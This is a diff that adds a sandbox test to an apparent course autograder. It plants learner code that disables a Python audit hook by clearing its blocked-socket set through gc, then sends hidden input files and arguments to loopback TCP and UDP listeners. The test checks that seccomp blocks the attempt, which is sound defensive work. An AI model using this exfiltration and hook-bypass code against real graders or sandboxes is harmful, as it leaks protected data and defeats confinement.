@@ -30,6 +30,7 @@ from course_lib.provided import submit
 from course_lib.provided.layout import REPO_ROOT
 
 from .. import planted
+from ..sandbox_runs import listening
 from . import docker_like
 
 pytestmark = [pytest.mark.grading]
@@ -235,6 +236,37 @@ def test_hostile_reads_into_a_visible_message(autograder: Path, container: str) 
     shown = learner_text(data)
     assert "LEAK" in shown and ("PermissionError" in shown or "FileNotFoundError" in shown)  # the files stayed shut
     assert "EARLIER HIDDEN RESULT" not in shown and "zoe@uni.edu" not in shown
+
+
+@needs_root
+def test_learner_code_sends_nothing_out_of_the_container(autograder: Path) -> None:
+    """In the Docker-like container (the network open, as on Gradescope; bubblewrap cannot start) correct
+    code that, at import and in every case, public and hidden, sends what it can read of its inputs (the
+    phase's inputs file, its arguments) to a TCP and a UDP listener of the test's on loopback, having first
+    emptied the set of socket events the rlimits child's audit hook refuses (an audit hook is no boundary):
+    the seccomp filter refuses the socket, nothing arrives, and the upload keeps every point."""
+    with listening() as (tcp, udp, received):
+        attack = planted._prefix(
+            "import gc as _gc, os as _os, socket as _socket\n"
+            "for _o in _gc.get_objects():\n"
+            "    if isinstance(_o, set) and 'socket.connect' in _o:\n"
+            "        _o.clear()\n"
+            "def _send_out(data):\n"
+            "    for _kind, _call in ((_socket.SOCK_STREAM, lambda s: (s.connect(('127.0.0.1', %d)), s.sendall(data))),\n"
+            "                         (_socket.SOCK_DGRAM, lambda s: s.sendto(data[:60000], ('127.0.0.1', %d)))):\n"
+            "        try:\n"
+            "            with _socket.socket(_socket.AF_INET, _kind) as _s:\n"
+            "                _call(_s)\n"
+            "        except OSError:\n"
+            "            pass\n"
+            "_box = _os.path.dirname(_os.path.dirname(_os.path.abspath(__file__)))\n"
+            "for _n in _os.listdir(_box):\n"
+            "    if _n.startswith('inputs_'):\n"
+            "        _send_out(_n.encode() + b' ' + open(_os.path.join(_box, _n), 'rb').read())\n" % (tcp, udp),
+            planted._in_body("_send_out(b'args ' + repr([query, key, value, mask]).encode())"))
+        data, log = run_autograder(autograder, files(attack), "docker")
+        assert received() == [], log
+    assert data["score"] == FULL and "container confinement" in log, log
 
 
 def test_learner_code_is_the_first_the_oom_killer_takes() -> None:
